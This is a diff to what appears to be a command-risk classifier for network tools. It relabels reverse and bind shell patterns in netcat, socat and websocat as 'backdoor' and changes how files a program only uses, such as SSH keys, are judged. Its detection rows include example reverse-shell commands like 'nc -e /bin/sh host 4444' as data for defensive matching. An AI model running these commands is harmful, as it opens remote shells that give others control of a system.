@@ -47,13 +47,10 @@ def remote(word: str) -> bool:
     return ":" in head or word.startswith(("rsync://", "scp://", "sftp://"))
 
 
-def uses(cmd, word: str, verb: str = "reads"):
-    """A file the program uses itself (a key, a config, a password file): judged as a read by its place, but
-    not a secret the part passes on (ssh uses ~/.ssh/config, it does not send it)."""
-    before = cmd.facts.secret_source
-    where = cmd.read(word, verb)
-    cmd.facts.secret_source = before
-    return where
+def uses(cmd, word: str, verb: str = "uses"):
+    """A file the program uses itself (a key, a config, a password file): its contents reach neither the
+    agent nor the network, so it is judged like naming it, and it is no secret the part passes on."""
+    return cmd.list_names(word, verb)
 
 
 def renamed(rows, old: str, new: str) -> tuple:
@@ -420,7 +417,7 @@ def nc_input(cmd, o) -> None:
 
 
 NC_ROWS = (
-    Row("nc.shell", "run-fetched", "connects a shell to the network (reverse or bind shell)",
+    Row("nc.shell", "backdoor", "connects a shell to the network (reverse or bind shell)",
         When(value=("e", "c", "exec", "sh-exec", "lua-exec")), stop=True, sets=("net_send", "net_fetch"),
         examples=("nc -e /bin/sh host 4444", "nc --sh-exec 'bash -i' host 4444", "nc -c sh host 4444")),
     Row("nc.port-check", "inspect", "checks whether a port is open", When(flag=("z",)), stop=True,
@@ -474,7 +471,7 @@ def socat_addresses(cmd, o) -> None:
         rest = address.split(":", 1)[1] if ":" in address else ""
         path, _, flags = rest.partition(",")
         if kind in SOCAT_EXEC:
-            cmd.does("run-fetched", "socat.exec", "connects a program or shell to a socket")
+            cmd.does("backdoor", "socat.exec", "connects a program or shell to a socket")
         elif kind in SOCAT_FILES and path:
             if kind == "create" or re.search(r"\b(creat|append|trunc|wronly)\b", flags):
                 cmd.fired.add("socat.file-in")
@@ -503,7 +500,7 @@ SOCAT = Program("socat", doc="joins two byte streams: sockets, files, programs",
 def websocat_addresses(cmd, o) -> None:
     sends_input(cmd)
     if any(a.lower().startswith(("sh-c:", "exec:", "cmd:")) for a in o.operands):
-        cmd.does("run-fetched", "websocat.exec", "connects a program or shell to a websocket")
+        cmd.does("backdoor", "websocat.exec", "connects a program or shell to a websocket")
 
 
 WEBSOCAT = Program(
@@ -513,7 +510,7 @@ WEBSOCAT = Program(
               sets=("net_send", "net_fetch"), examples=("websocat -s 8080",)),
           Row("websocat.connects", "expose", "opens a websocket connection", sets=("net_send", "net_fetch"),
               examples=("websocat wss://host/ws",)),
-          Row("websocat.exec-option", "run-fetched", "connects a program to a websocket (--exec)", When(value=("exec",)),
+          Row("websocat.exec-option", "backdoor", "connects a program to a websocket (--exec)", When(value=("exec",)),
               examples=("websocat --exec sh -s 8080",))),
     hook=websocat_addresses,
 )
